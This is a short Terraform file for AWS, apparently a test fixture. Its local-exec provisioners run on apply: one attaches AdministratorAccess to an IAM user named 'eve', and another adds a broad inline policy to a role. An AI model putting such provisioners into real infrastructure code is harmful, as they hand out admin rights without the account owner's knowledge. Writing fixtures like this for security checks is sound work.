terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "5.100.0"
    }
  }
}

provider "aws" {
  region = "eu-west-1"
}

resource "terraform_data" "script" {
  provisioner "local-exec" {
    command = "aws iam attach-user-policy --user-name eve --policy-arn arn:aws:iam::aws:policy/AdministratorAccess"
  }
}

resource "aws_iam_role" "app" {
  name = "app"
  assume_role_policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{
      Effect    = "Allow"
      Action    = "sts:AssumeRole"
      Principal = { Service = "ec2.amazonaws.com" }
    }]
  })
  provisioner "local-exec" {
    command = "aws iam put-role-policy --role-name ${self.name} --policy-name all --policy-document file://all.json"
  }

  provisioner "local-exec" {
    when    = destroy
    command = "true"
  }
}
